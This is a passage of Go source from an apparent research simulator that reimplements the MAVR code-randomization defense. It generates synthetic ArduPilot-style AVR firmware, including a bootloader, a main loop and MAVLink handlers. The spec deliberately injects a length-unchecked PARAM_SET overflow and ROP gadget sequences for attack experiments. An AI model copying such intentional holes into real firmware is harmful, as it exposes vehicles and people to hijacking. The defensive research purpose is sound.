	// StubCount is the number of jmp stubs.
	StubCount int
	// FuncRegionStart/End delimit the shuffleable function region
	// (byte addresses).
	FuncRegionStart uint32
	FuncRegionEnd   uint32
	// DataLoadStart is the flash byte address of the .data load image.
	DataLoadStart uint32
	// DataLoadSize is its size in bytes.
	DataLoadSize uint32
	// CalibrationStart/Size is the flash-resident padding table.
	CalibrationStart uint32
	CalibrationSize  uint32
	// SchedTableAddr is the data-space address of the stub-pointer
	// scheduler table; SchedTableLen its entry count.
	SchedTableAddr uint16
	SchedTableLen  int
	// DirectTableAddr is the data-space address of the raw
	// function-pointer table (0 when absent).
	DirectTableAddr uint16
	DirectTableLen  int
	// WaypointsAddr is the data-space address of the mission table.
	WaypointsAddr uint16
}
