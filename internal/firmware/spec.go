// Package firmware synthesizes autopilot applications for the simulated
// ATmega2560. The MAVR paper evaluates on ArduPlane 2.7.4, ArduCopter
// and ArduRover built with a custom GCC 4.5.4 toolchain; those sources
// cannot be compiled here, so this package generates AVR machine code
// with the same structural properties the attacks and the defense
// depend on:
//
//   - the paper's function counts (Table I: 917 / 1030 / 800 symbols),
//   - the paper's code sizes (Table III), reached by deterministic body
//     synthesis plus a flash-resident calibration table,
//   - an interrupt vector table, a low-flash dispatch-stub region,
//     data-section function-pointer tables (scheduler tasks),
//   - a MAVLink receive loop with the injected length-unchecked
//     PARAM_SET handler (the paper's §IV-B vulnerability),
//   - the exact stk_move and write_mem_gadget instruction sequences of
//     Figs. 4 and 5, plus many naturally occurring frame-pointer
//     epilogues that yield further gadgets,
//   - two toolchain modes: Stock (GCC -mcall-prologues + linker
//     relaxation) and MAVR (-mno-call-prologues --no-relax), so that
//     §VI-B1's requirement — only the latter is safely randomizable —
//     is demonstrable.
package firmware

// ToolchainMode selects the code-generation style (paper §VI-B1).
type ToolchainMode int

const (
	// ModeMAVR models the paper's custom toolchain:
	// -mno-call-prologues and --no-relax force inline register
	// save/restore and long-form call/jmp, making every control
	// transfer patchable after function blocks move.
	ModeMAVR ToolchainMode = iota + 1
	// ModeStock models the default toolchain: shared call-prologue
	// blocks reached with LDI-encoded return addresses, and relaxed
	// (rcall/rjmp) short calls. Smaller or larger by a fraction of a
	// percent, but not safely randomizable.
	ModeStock
)

func (m ToolchainMode) String() string {
	if m == ModeStock {
		return "stock"
	}
	return "mavr"
}

// AppSpec describes one synthetic autopilot application.
type AppSpec struct {
	// Name of the application (arduplane, arducopter, ardurover, testapp).
	Name string
	// Functions is the number of function symbols (Table I).
	Functions int
	// TargetSize is the flash image size in bytes to calibrate to in
	// ModeMAVR (Table III, "MAVR code size"). Zero disables calibration.
	TargetSize int
	// TargetSizeStock is the ModeStock calibration target (Table III,
	// "stock code size"). Zero disables calibration.
	TargetSizeStock int
	// Seed makes generation deterministic.
	Seed int64
	// Vulnerable injects the length-unchecked PARAM_SET handler
	// (paper §IV-B). When false the handler clamps the copy length.
	Vulnerable bool
	// DirectPointerTable adds a data-section table of raw 16-bit
	// function word addresses (in addition to the stub-based scheduler
	// table). Only valid for images that stay below 128KB.
	DirectPointerTable bool
	// Bootloader includes the prototype's fixed-location serial
	// bootloader code in the top flash section (§VI-B4). Its gadgets
	// survive randomization; a production system would use hardware ISP
	// instead (Bootloader false).
	Bootloader bool
	// StackCanaries hardens handle_param_set with a stack canary — the
	// runtime-check alternative §IX argues the APM cannot afford. Used
	// by the canary-overhead ablation.
	StackCanaries bool
}

// The paper's three evaluation applications (Tables I-III) plus a small
// test application used to develop the stealthy attack (§IV, §VII-A).
func Arduplane() AppSpec {
	return AppSpec{
		Name: "arduplane", Functions: 917,
		TargetSize: 221294, TargetSizeStock: 221608,
		Seed: 0xA9, Vulnerable: true, Bootloader: true,
	}
}

// Arducopter returns the ArduCopter profile.
func Arducopter() AppSpec {
	return AppSpec{
		Name: "arducopter", Functions: 1030,
		TargetSize: 244292, TargetSizeStock: 244532,
		Seed: 0xAC, Vulnerable: true, Bootloader: true,
	}
}

// Ardurover returns the ArduRover profile.
func Ardurover() AppSpec {
	return AppSpec{
		Name: "ardurover", Functions: 800,
		TargetSize: 177556, TargetSizeStock: 177870,
		Seed: 0xAB, Vulnerable: true, Bootloader: true,
	}
}

// TestApp returns a small application (fits below 128KB) used by unit
// tests and by the attack-development examples; it enables the direct
// function-pointer table so both pointer-patching paths are exercised.
func TestApp() AppSpec {
	return AppSpec{
		Name: "testapp", Functions: 60,
		Seed: 0x7E57, Vulnerable: true, Bootloader: true,
		DirectPointerTable: true,
	}
}

// Profiles returns the three paper applications in Table I order.
func Profiles() []AppSpec {
	return []AppSpec{Arduplane(), Arducopter(), Ardurover()}
}
