package firmware

import (
	"mavr/internal/asm"
	"mavr/internal/avr"
)

// UART1 (the master-processor link) data-space addresses.
const (
	AddrUCSR1A = 0xC8 // status: bit 7 = RXC1
	AddrUDR1   = 0xCE // data register
)

// Bootloader wire protocol (master -> application):
//
//	'P' ext hi lo <256 page bytes>   program one flash page at the
//	                                 byte address ext:hi:lo
//	'Q'                              quit: jump to the application
const (
	BootCmdProgram = 'P'
	BootCmdQuit    = 'Q'
)

// GenerateBootloader builds the prototype's serial bootloader: the
// resident loader in the boot (NRWW) section that lets the master
// processor reprogram the application over USART1 (paper §VI-B4). It
// really executes: pages arrive over the wire and are committed with
// the SPM page-erase / buffer-fill / page-write sequence.
//
// Because the bootloader must sit at a fixed address, its code is never
// randomized — the paper warns that it "provides targets for an ROP
// attack" and that a production system should use the hardware
// In-System Programming interface instead. The loader contains the
// realistic code shapes that make this true: a stack-pointer reset
// before jumping to the application (a stk_move gadget) and a buffered
// three-byte record writer (a write_mem gadget). The §VI-B4 ablation
// shows attacks built on these surviving every randomization, and
// disappearing in hardware-ISP builds.
func GenerateBootloader() ([]byte, error) {
	b := asm.NewBuilder()

	b.Label("boot_entry")
	// Minimal init: stack at top of SRAM, interrupts off, watchdog off.
	top := avr.DataSpaceSize - 1
	b.Emit(asm.CLI)
	b.Emit(asm.LDI(28, top&0xFF), asm.LDI(29, top>>8))
	b.Emit(asm.OUT(avr.IOAddrSPL, 28), asm.OUT(avr.IOAddrSPH, 29))
	b.Emit(asm.WDR)

	b.Label("boot_rx_cmd")
	b.RCALL("boot_getc")
	b.Emit(asm.CPI(24, BootCmdProgram))
	b.BRBS(avr.FlagZ, "boot_cmd_prog")
	b.Emit(asm.CPI(24, BootCmdQuit))
	b.BRBC(avr.FlagZ, "boot_rx_cmd")
	b.RJMP("boot_run_app")

	// Program one page: 3 address bytes, then 256 data bytes.
	b.Label("boot_cmd_prog")
	b.RCALL("boot_getc")
	b.Emit(asm.OUT(avr.IOAddrRAMPZ, 24)) // ext
	b.RCALL("boot_getc")
	b.Emit(asm.MOV(31, 24)) // hi
	b.RCALL("boot_getc")
	b.Emit(asm.MOV(30, 24)) // lo
	// Erase the page.
	b.Emit(asm.LDI(24, 1<<avr.BitPGERS|1<<avr.BitSPMEN))
	b.Emit2(asm.STS(avr.AddrSPMCSR, 24))
	b.Emit(asm.SPM)
	// Fill the temporary buffer: 128 words from the wire.
	b.Emit(asm.LDI(25, 128))
	b.Label("boot_fill")
	b.RCALL("boot_getc")
	b.Emit(asm.MOV(0, 24))
	b.RCALL("boot_getc")
	b.Emit(asm.MOV(1, 24))
	b.Emit(asm.LDI(24, 1<<avr.BitSPMEN))
	b.Emit2(asm.STS(avr.AddrSPMCSR, 24))
	b.Emit(asm.SPM)
	b.Emit(asm.ADIW(30, 2))
	b.Emit(asm.DEC(25))
	b.BRBC(avr.FlagZ, "boot_fill")
	// Back to the page base and commit.
	b.Emit(asm.SUBI(30, 0), asm.SBCI(31, 1)) // Z -= 256
	b.Emit(asm.LDI(24, 1<<avr.BitPGWRT|1<<avr.BitSPMEN))
	b.Emit2(asm.STS(avr.AddrSPMCSR, 24))
	b.Emit(asm.SPM)
	b.Emit(asm.EOR(1, 1)) // restore the zero register
	b.RJMP("boot_rx_cmd")

	// Blocking UART1 read into r24.
	b.Label("boot_getc")
	b.Emit2(asm.LDS(24, AddrUCSR1A))
	b.Emit(asm.SBRS(24, 7)) // RXC1
	b.RJMP("boot_getc")
	b.Emit2(asm.LDS(24, AddrUDR1))
	b.Emit(asm.RET)

	// Record writer: store a 3-byte record at the buffered address in Y
	// and restore the saved register file — the bootloader's own
	// write_mem-shaped code (used by its paging bookkeeping).
	b.Label("boot_write_record")
	for r := 4; r <= 17; r++ {
		b.Emit(asm.PUSH(r))
	}
	b.Emit(asm.PUSH(28), asm.PUSH(29))
	b.Emit2(asm.LDS(28, 0x2004))
	b.Emit2(asm.LDS(29, 0x2005))
	b.Emit2(asm.LDS(5, 0x2006))
	b.Emit2(asm.LDS(6, 0x2007))
	b.Emit2(asm.LDS(7, 0x2008))
	b.Emit(asm.STDY(1, 5))
	b.Emit(asm.STDY(2, 6))
	b.Emit(asm.STDY(3, 7))
	b.Emit(asm.POP(29), asm.POP(28))
	for r := 17; r >= 4; r-- {
		b.Emit(asm.POP(r))
	}
	b.Emit(asm.RET)

	// Hand over to the application: stage the application reset vector
	// (word 0) as a return address, run the interrupt-safe SP restore,
	// and return through it — the bootloader's own stk_move-shaped
	// code, ending in the ret that starts the application.
	b.Label("boot_run_app")
	b.Emit(asm.LDI(24, 0))
	b.Emit(asm.PUSH(24), asm.PUSH(24), asm.PUSH(24)) // 3-byte entry 0x000000
	b.Emit(asm.PUSH(16), asm.PUSH(29), asm.PUSH(28))
	b.Emit(asm.IN(28, avr.IOAddrSPL), asm.IN(29, avr.IOAddrSPH))
	b.Emit(asm.IN(0, avr.IOAddrSREG))
	b.Emit(asm.CLI)
	b.Emit(asm.OUT(avr.IOAddrSPH, 29))
	b.Emit(asm.OUT(avr.IOAddrSREG, 0))
	b.Emit(asm.OUT(avr.IOAddrSPL, 28))
	b.Emit(asm.POP(28), asm.POP(29), asm.POP(16))
	b.Emit(asm.RET) // consumes the staged zeros: jump to the application

	return b.Assemble()
}
