package firmware

import (
	"fmt"
	"math/rand"
)

// Function names are synthesized from the vocabulary of the ArduPilot
// codebase so listings and symbol tables read like the real firmware.
var (
	nameModules = []string{
		"AP_AHRS", "AP_Baro", "AP_Compass", "AP_GPS", "AP_InertialSensor",
		"AP_Mission", "AP_Motors", "AP_Param", "AP_RangeFinder", "AP_Scheduler",
		"GCS_MAVLink", "RC_Channel", "AC_PID", "AP_Airspeed", "AP_BattMonitor",
		"AP_Camera", "AP_Declination", "AP_HAL", "AP_Math", "AP_Mount",
		"AP_Navigation", "AP_Relay", "AP_ServoRelay", "DataFlash", "Filter",
	}
	nameVerbs = []string{
		"update", "init", "read", "write", "calc", "set", "get", "check",
		"calibrate", "reset", "enable", "disable", "send", "handle", "process",
		"normalize", "apply", "load", "save", "poll",
	}
	nameObjects = []string{
		"state", "offsets", "gains", "raw", "filtered", "target", "output",
		"input", "trim", "limits", "rate", "angle", "position", "velocity",
		"accel", "bias", "scale", "matrix", "quaternion", "packet",
	}
)

// funcName deterministically produces a plausible autopilot function
// name; an index suffix keeps names unique.
func funcName(rng *rand.Rand, i int) string {
	m := nameModules[rng.Intn(len(nameModules))]
	v := nameVerbs[rng.Intn(len(nameVerbs))]
	o := nameObjects[rng.Intn(len(nameObjects))]
	return fmt.Sprintf("%s_%s_%s_%d", m, v, o, i)
}
