package firmware

import (
	"mavr/internal/asm"
	"mavr/internal/avr"
)

// Register of the firmware runtime: the fixed control skeleton every
// generated application shares. Each emit* method defines one function
// (with its label) on the builder; gen.go records the symbols.

// emitSPWrite emits the interrupt-safe stack-pointer write idiom avr-gcc
// uses (in r0,SREG; cli; out SPH; out SREG; out SPL). The SREG restore
// between the two SP writes relies on the hardware's one-instruction
// SEI delay; the visible window starting at "out 0x3e, r29" is the
// paper's Fig. 4 stk_move gadget.
func (g *generator) emitSPWrite() {
	b := g.b
	b.Emit(asm.IN(0, avr.IOAddrSREG))
	b.Emit(asm.CLI)
	b.Emit(asm.OUT(avr.IOAddrSPH, 29))
	b.Emit(asm.OUT(avr.IOAddrSREG, 0))
	b.Emit(asm.OUT(avr.IOAddrSPL, 28))
}

// emitInit emits the C-runtime startup: stack pointer setup, zero
// register, .data copy from flash, jump to the main loop.
func (g *generator) emitInit() {
	b := g.b
	b.Label("__init")
	top := avr.DataSpaceSize - 1
	b.Emit(asm.LDI(28, top&0xFF), asm.LDI(29, top>>8))
	b.Emit(asm.OUT(avr.IOAddrSPL, 28), asm.OUT(avr.IOAddrSPH, 29))
	b.Emit(asm.EOR(1, 1)) // r1 = zero register (avr-gcc convention)

	// Boot handshake: tell the master processor we are (re)starting.
	// An unexpected pulse is how the master's timing analysis notices a
	// crash-and-restart caused by a failed ROP attempt.
	b.Emit(asm.LDI(24, 0xB0))
	b.Emit(asm.OUT(0x08, 24)) // PORTC

	// Initialize the write_mem host function's pointer and values.
	b.Emit(asm.LDI(24, AddrScratch&0xFF), asm.LDI(25, AddrScratch>>8))
	b.Emit2(asm.STS(AddrWritePtr, 24))
	b.Emit2(asm.STS(AddrWritePtr+1, 25))

	// Load the persistent gyro configuration from EEPROM (Fig. 1: the
	// EEPROM holds configuration settings).
	b.Emit(asm.LDI(24, EEPROMCfgAddr))
	b.Emit(asm.OUT(avr.AddrEEARL-avr.IOBase, 24))
	b.Emit(asm.OUT(avr.AddrEEARH-avr.IOBase, 1))
	b.Emit(asm.SBI(avr.AddrEECR-avr.IOBase, avr.BitEERE))
	b.Emit(asm.IN(24, avr.AddrEEDR-avr.IOBase))
	b.Emit2(asm.STS(AddrGyroCfg, 24))

	// Copy .data (scheduler tables) from flash to SRAM. The load image
	// may live above 128KB, so use elpm with RAMPZ.
	size := g.dataLoadSize()
	if size > 0 {
		b.LDIByteAddr(30, "__data_load", 0)
		b.LDIByteAddr(31, "__data_load", 8)
		b.LDIByteAddr(16, "__data_load", 16)
		b.Emit(asm.OUT(avr.IOAddrRAMPZ, 16))
		b.Emit(asm.LDI(26, AddrDataSection&0xFF), asm.LDI(27, AddrDataSection>>8))
		b.Emit(asm.LDI(24, size&0xFF), asm.LDI(25, size>>8))
		b.Label("__init_copy")
		b.Emit(asm.ELPMZInc(0))
		b.Emit(asm.STXInc(0))
		b.Emit(asm.SBIW(24, 1))
		b.BRBC(avr.FlagZ, "__init_copy")
	}
	b.Emit(asm.SEI) // enable the timer tick interrupt
	b.JMP("main_loop")
}

// emitTimerISR emits the TIMER0 overflow handler: a classic
// register-preserving ISR that advances the 16-bit uptime counter. It
// is an ordinary function block, so randomization moves it and the
// vector-table patcher must keep the interrupt working.
func (g *generator) emitTimerISR() {
	b := g.b
	b.Label("__vector_timer0")
	b.Emit(asm.PUSH(24))
	b.Emit(asm.IN(24, avr.IOAddrSREG))
	b.Emit(asm.PUSH(24))
	b.Emit(asm.PUSH(25))
	b.Emit2(asm.LDS(24, AddrUptime))
	b.Emit2(asm.LDS(25, AddrUptime+1))
	b.Emit(asm.ADIW(24, 1))
	b.Emit2(asm.STS(AddrUptime, 24))
	b.Emit2(asm.STS(AddrUptime+1, 25))
	b.Emit(asm.POP(25))
	b.Emit(asm.POP(24))
	b.Emit(asm.OUT(avr.IOAddrSREG, 24))
	b.Emit(asm.POP(24))
	b.Emit(asm.RETI)
}

// emitBadInterrupt emits the default interrupt handler.
func (g *generator) emitBadInterrupt() {
	b := g.b
	b.Label("__bad_interrupt")
	b.JMP("__init")
}

// emitMainLoop emits the flight main loop: watchdog feed, telemetry
// pulse, serial receive poll, gyro update and scheduler dispatch.
func (g *generator) emitMainLoop() {
	b := g.b
	b.Label("main_loop")
	// Feed the master processor's watchdog (any PORTB write).
	b.Emit(asm.OUT(0x05, 24))
	// Telemetry pulse [PulseMagic, seq, gyro] when the UART can accept it.
	b.Emit2(asm.LDS(24, AddrUCSR0A))
	b.Emit(asm.SBRC(24, BitUDRE))
	b.RJMP("ml_tx")
	b.RJMP("ml_rx")
	b.Label("ml_tx")
	b.Emit(asm.LDI(24, PulseMagic))
	b.Emit2(asm.STS(AddrUDR0, 24))
	b.Emit2(asm.LDS(24, AddrHBSeq))
	b.Emit2(asm.STS(AddrUDR0, 24))
	b.Emit(asm.INC(24))
	b.Emit2(asm.STS(AddrHBSeq, 24))
	b.Emit2(asm.LDS(24, AddrGyro))
	b.Emit2(asm.STS(AddrUDR0, 24))
	b.Emit2(asm.LDS(24, AddrHeading))
	b.Emit2(asm.STS(AddrUDR0, 24))
	// A full MAVLink heartbeat every HeartbeatEvery pulses, and a
	// RAW_IMU sensor report half a period later.
	b.Emit2(asm.LDS(24, AddrHBSeq))
	b.Emit(asm.ANDI(24, HeartbeatEvery-1))
	b.Emit(asm.CPI(24, 1))
	b.BRBC(avr.FlagZ, "ml_imu")
	g.call("mav_send_heartbeat")
	b.Label("ml_imu")
	b.Emit2(asm.LDS(24, AddrHBSeq))
	b.Emit(asm.ANDI(24, HeartbeatEvery-1))
	b.Emit(asm.CPI(24, HeartbeatEvery/2+1))
	b.BRBC(avr.FlagZ, "ml_rx")
	g.call("mav_send_raw_imu")
	// Drain the receive register.
	b.Label("ml_rx")
	b.Emit2(asm.LDS(24, AddrUCSR0A))
	b.Emit(asm.SBRC(24, BitRXC))
	b.RJMP("ml_rx_byte")
	b.RJMP("ml_work")
	b.Label("ml_rx_byte")
	b.Emit2(asm.LDS(24, AddrUDR0))
	g.call("rx_byte")
	b.RJMP("ml_rx")
	// Flight work: sensors, navigation and one scheduler task per
	// iteration.
	b.Label("ml_work")
	g.call("gyro_update")
	g.call("nav_update")
	g.call("sched_dispatch")
	b.RJMP("main_loop")
}

// emitNavUpdate emits the navigation task: select the active waypoint
// from the mission table (cycling on the ISR-driven uptime) and derive
// the commanded heading from its coordinates. This is the "navigation
// path" state the paper's abstract says a stealthy attacker can modify.
func (g *generator) emitNavUpdate() {
	b := g.b
	wp := int(g.waypointsAddr())
	b.Label("nav_update")
	b.Emit2(asm.LDS(24, AddrUptime+1))
	b.Emit(asm.ANDI(24, WaypointCount-1))
	b.Emit2(asm.STS(AddrCurWaypoint, 24))
	b.Emit(asm.MOV(30, 24))
	b.Emit(asm.ADD(30, 30), asm.ADD(30, 30)) // *WaypointSize
	b.Emit(asm.LDI(31, 0))
	b.Emit(asm.SUBI(30, (-wp)&0xFF), asm.SBCI(31, ((-wp)>>8)&0xFF))
	b.Emit(asm.LDDZ(24, 0)) // lat low byte
	b.Emit(asm.LDDZ(25, 2)) // lon low byte
	b.Emit(asm.EOR(24, 25))
	b.Emit2(asm.STS(AddrHeading, 24))
	b.Emit(asm.RET)
}

// emitMavTxFrame emits the shared MAVLink frame finisher: the caller
// has assembled header + payload in the TX buffer; r22 holds the
// payload length and r23 the message's CRC_EXTRA seed. The routine
// computes the X.25 checksum in a register loop (the crc_accumulate
// algorithm) and streams the finished frame to the UART.
func (g *generator) emitMavTxFrame() {
	b := g.b
	b.Label("mav_tx_frame")
	// Stage the CRC_EXTRA seed just past the payload: X = TxBuf+6+len.
	b.Emit(asm.MOV(26, 22))
	b.Emit(asm.LDI(27, 0))
	b.Emit(asm.SUBI(26, (-(int(AddrTxBuf) + 6))&0xFF))
	b.Emit(asm.SBCI(27, ((-(int(AddrTxBuf) + 6))>>8)&0xFF))
	b.Emit(asm.STX(23))

	// X.25 CRC over buf[1 .. 5+len] plus the staged seed, i.e. len+6
	// bytes starting at TxBuf+1, into r24(lo):r25(hi).
	b.Emit(asm.LDI(30, (AddrTxBuf+1)&0xFF), asm.LDI(31, (AddrTxBuf+1)>>8))
	b.Emit(asm.LDI(24, 0xFF), asm.LDI(25, 0xFF))
	b.Emit(asm.MOV(20, 22))
	b.Emit(asm.SUBI(20, (-6)&0xFF)) // count = len + 6
	b.Label("mtx_crc_loop")
	b.Emit(asm.LDZInc(18))
	b.Emit(asm.EOR(18, 24)) // tmp = b ^ lo(crc)
	b.Emit(asm.MOV(19, 18))
	b.Emit(asm.SWAP(19))
	b.Emit(asm.ANDI(19, 0xF0))
	b.Emit(asm.EOR(18, 19)) // tmp ^= tmp << 4
	b.Emit(asm.MOV(24, 25)) // crc >>= 8
	b.Emit(asm.MOV(25, 18)) // ^= tmp << 8
	b.Emit(asm.MOV(21, 18)) // tmp << 3 (low byte)
	b.Emit(asm.ADD(21, 21), asm.ADD(21, 21), asm.ADD(21, 21))
	b.Emit(asm.MOV(19, 18)) // tmp >> 5 (high byte of tmp<<3)
	b.Emit(asm.LSR(19), asm.LSR(19), asm.LSR(19), asm.LSR(19), asm.LSR(19))
	b.Emit(asm.EOR(24, 21))
	b.Emit(asm.EOR(25, 19))
	b.Emit(asm.MOV(21, 18)) // tmp >> 4
	b.Emit(asm.SWAP(21))
	b.Emit(asm.ANDI(21, 0x0F))
	b.Emit(asm.EOR(24, 21))
	b.Emit(asm.DEC(20))
	b.BRBC(avr.FlagZ, "mtx_crc_loop")
	// The seed byte slot receives the checksum (X still points at it
	// from the staging store above).
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STX(25))

	// Transmit 8+len bytes from the buffer start.
	b.Emit(asm.LDI(30, AddrTxBuf&0xFF), asm.LDI(31, AddrTxBuf>>8))
	b.Emit(asm.MOV(20, 22))
	b.Emit(asm.SUBI(20, (-8)&0xFF))
	b.Label("mtx_tx_loop")
	b.Emit(asm.LDZInc(24))
	b.Emit2(asm.STS(AddrUDR0, 24))
	b.Emit(asm.DEC(20))
	b.BRBC(avr.FlagZ, "mtx_tx_loop")
	b.Emit(asm.RET)
}

// emitMavHeader emits the common frame-header assembly: X is left
// pointing at the payload area and the sequence counter advances.
func (g *generator) emitMavHeader(msgID, payloadLen int) {
	b := g.b
	b.Emit(asm.LDI(26, AddrTxBuf&0xFF), asm.LDI(27, AddrTxBuf>>8))
	b.Emit(asm.LDI(24, 0xFE)) // magic
	b.Emit(asm.STXInc(24))
	b.Emit(asm.LDI(24, payloadLen))
	b.Emit(asm.STXInc(24))
	b.Emit2(asm.LDS(24, AddrMavSeq))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.INC(24))
	b.Emit2(asm.STS(AddrMavSeq, 24))
	b.Emit(asm.LDI(24, 1)) // system id
	b.Emit(asm.STXInc(24))
	b.Emit(asm.LDI(24, 1)) // component id
	b.Emit(asm.STXInc(24))
	if msgID == 0 {
		b.Emit(asm.STXInc(1)) // r1 == 0
	} else {
		b.Emit(asm.LDI(24, msgID))
		b.Emit(asm.STXInc(24))
	}
}

// emitSendHeartbeat emits a real MAVLink v1 HEARTBEAT transmitter: the
// 17-byte frame (Fig. 2) is assembled in SRAM and finished by
// mav_tx_frame. The ground station's liveness monitoring validates
// these frames end to end.
func (g *generator) emitSendHeartbeat() {
	b := g.b
	b.Label("mav_send_heartbeat")
	g.emitMavHeader(0, 9)
	// Payload: custom_mode (uptime), type, autopilot, base_mode,
	// system_status, mavlink_version.
	b.Emit2(asm.LDS(24, AddrUptime))
	b.Emit(asm.STXInc(24))
	b.Emit2(asm.LDS(24, AddrUptime+1))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STXInc(1), asm.STXInc(1))
	b.Emit(asm.LDI(24, 1)) // MAV_TYPE_FIXED_WING
	b.Emit(asm.STXInc(24))
	b.Emit(asm.LDI(24, 3)) // MAV_AUTOPILOT_ARDUPILOTMEGA
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STXInc(1))  // base_mode 0
	b.Emit(asm.LDI(24, 4)) // MAV_STATE_ACTIVE
	b.Emit(asm.STXInc(24))
	b.Emit(asm.LDI(24, 3)) // mavlink version
	b.Emit(asm.STXInc(24))
	b.Emit(asm.LDI(22, 9))  // payload length
	b.Emit(asm.LDI(23, 50)) // HEARTBEAT CRC_EXTRA
	g.call("mav_tx_frame")
	b.Emit(asm.RET)
}

// emitSendParamValue emits the PARAM_VALUE (id 22) echo ArduPilot sends
// after applying a PARAM_SET: the stored value plus the parameter name
// taken from the received packet in the global RX buffer.
//
// Note a stealth subtlety the paper does not discuss: the vulnerable
// handler emits this echo before its (hijacked) return executes, so an
// attack packet produces an echo whose name bytes are ROP-chain junk —
// application-level evidence a semantic ground-station check could
// flag, even though liveness monitoring sees nothing.
func (g *generator) emitSendParamValue() {
	b := g.b
	b.Label("mav_send_param_value")
	g.emitMavHeader(22, 25)
	// param_value: the four bytes just stored.
	for i := 0; i < 4; i++ {
		b.Emit2(asm.LDS(24, uint16(AddrParamVal+i)))
		b.Emit(asm.STXInc(24))
	}
	// param_count = 1, param_index = 0.
	b.Emit(asm.LDI(24, 1))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STXInc(1))
	b.Emit(asm.STXInc(1), asm.STXInc(1))
	// param_id: 16 bytes from the received payload (RX buffer offset 6).
	b.Emit(asm.LDI(30, (AddrRxBuf+6)&0xFF), asm.LDI(31, (AddrRxBuf+6)>>8))
	b.Emit(asm.LDI(20, 16))
	b.Label("mpv_id_loop")
	b.Emit(asm.LDZInc(24))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.DEC(20))
	b.BRBC(avr.FlagZ, "mpv_id_loop")
	// param_type: byte 22 of the received payload.
	b.Emit2(asm.LDS(24, AddrRxBuf+22))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.LDI(22, 25))  // payload length
	b.Emit(asm.LDI(23, 220)) // PARAM_VALUE CRC_EXTRA
	g.call("mav_tx_frame")
	b.Emit(asm.RET)
}

// emitSendRawIMU emits the RAW_IMU (id 27) transmitter: the unscaled
// 9-DOF report whose gyroscope fields carry the sensor values the
// paper's attack falsifies.
func (g *generator) emitSendRawIMU() {
	b := g.b
	b.Label("mav_send_raw_imu")
	g.emitMavHeader(27, 26)
	// time_usec: uptime in the low 4 of 8 bytes.
	b.Emit2(asm.LDS(24, AddrUptime))
	b.Emit(asm.STXInc(24))
	b.Emit2(asm.LDS(24, AddrUptime+1))
	b.Emit(asm.STXInc(24))
	for i := 0; i < 6; i++ {
		b.Emit(asm.STXInc(1))
	}
	// xacc/yacc/zacc: zero.
	for i := 0; i < 6; i++ {
		b.Emit(asm.STXInc(1))
	}
	// xgyro = gyro (int16), ygyro = heading, zgyro = waypoint index.
	b.Emit2(asm.LDS(24, AddrGyro))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STXInc(1))
	b.Emit2(asm.LDS(24, AddrHeading))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STXInc(1))
	b.Emit2(asm.LDS(24, AddrCurWaypoint))
	b.Emit(asm.STXInc(24))
	b.Emit(asm.STXInc(1))
	// xmag/ymag/zmag: zero.
	for i := 0; i < 6; i++ {
		b.Emit(asm.STXInc(1))
	}
	b.Emit(asm.LDI(22, 26))  // payload length
	b.Emit(asm.LDI(23, 144)) // RAW_IMU CRC_EXTRA
	g.call("mav_tx_frame")
	b.Emit(asm.RET)
}

// emitGyroUpdate emits the sensor task: gyro = raw sample + config
// byte. The paper's attacks target AddrGyroCfg for a continuous effect
// on the reported attitude (§IV-C).
func (g *generator) emitGyroUpdate() {
	b := g.b
	b.Label("gyro_update")
	b.Emit2(asm.LDS(24, AddrADCL))
	b.Emit2(asm.LDS(25, AddrGyroCfg))
	b.Emit(asm.ADD(24, 25))
	b.Emit2(asm.STS(AddrGyro, 24))
	b.Emit(asm.RET)
}

// emitRxByte emits the MAVLink v1 receive state machine. One call per
// received byte (in r24); a finished PARAM_SET frame dispatches to
// handle_param_set. CRC bytes are consumed but not verified in the
// firmware (verification happens ground-side); the paper's injected
// vulnerability is the missing length check in the handler, not here.
func (g *generator) emitRxByte() {
	b := g.b
	setState := func(v int) {
		b.Emit(asm.LDI(25, v))
		b.Emit2(asm.STS(AddrRxState, 25))
	}
	b.Label("rx_byte")
	// A realistic parser frame (local packet scratch), matching the
	// call depth under which ArduPlane's MAVLink handler runs. Without
	// it the vulnerable handler would sit at the very top of SRAM and
	// leave no room above the smashed frame for a V1-style chain.
	b.Emit(asm.PUSH(29), asm.PUSH(28))
	b.Emit(asm.IN(28, avr.IOAddrSPL), asm.IN(29, avr.IOAddrSPH))
	b.Emit(asm.SUBI(28, RxFrameBytes), asm.SBCI(29, 0))
	g.emitSPWrite()

	b.Emit2(asm.LDS(25, AddrRxState))

	b.Emit(asm.CPI(25, 0))
	b.BRBC(avr.FlagZ, "rxs1")
	b.Emit(asm.CPI(24, 0xFE)) // magic
	b.BRBS(avr.FlagZ, "rxs0_magic")
	b.RJMP("rx_ret")
	b.Label("rxs0_magic")
	setState(1)
	b.RJMP("rx_ret")

	b.Label("rxs1") // length byte
	b.Emit(asm.CPI(25, 1))
	b.BRBC(avr.FlagZ, "rxs2")
	b.Emit2(asm.STS(AddrRxLen, 24))
	b.Emit2(asm.STS(AddrRxIdx, 1)) // r1 == 0
	setState(2)
	b.RJMP("rx_ret")

	b.Label("rxs2") // sequence number (ignored)
	b.Emit(asm.CPI(25, 2))
	b.BRBC(avr.FlagZ, "rxs3")
	setState(3)
	b.RJMP("rx_ret")

	b.Label("rxs3") // sender system id (ignored)
	b.Emit(asm.CPI(25, 3))
	b.BRBC(avr.FlagZ, "rxs4")
	setState(4)
	b.RJMP("rx_ret")

	b.Label("rxs4") // sender component id (ignored)
	b.Emit(asm.CPI(25, 4))
	b.BRBC(avr.FlagZ, "rxs5")
	setState(5)
	b.RJMP("rx_ret")

	b.Label("rxs5") // message id
	b.Emit(asm.CPI(25, 5))
	b.BRBC(avr.FlagZ, "rxs6")
	b.Emit2(asm.STS(AddrRxMsgID, 24))
	b.Emit2(asm.LDS(25, AddrRxLen))
	b.Emit(asm.CPI(25, 0))
	b.BRBC(avr.FlagZ, "rxs5_pay")
	setState(7) // empty payload: straight to checksum
	b.RJMP("rx_ret")
	b.Label("rxs5_pay")
	setState(6)
	b.RJMP("rx_ret")

	b.Label("rxs6") // payload byte into the 256-byte global buffer
	b.Emit(asm.CPI(25, 6))
	b.BRBC(avr.FlagZ, "rxs7")
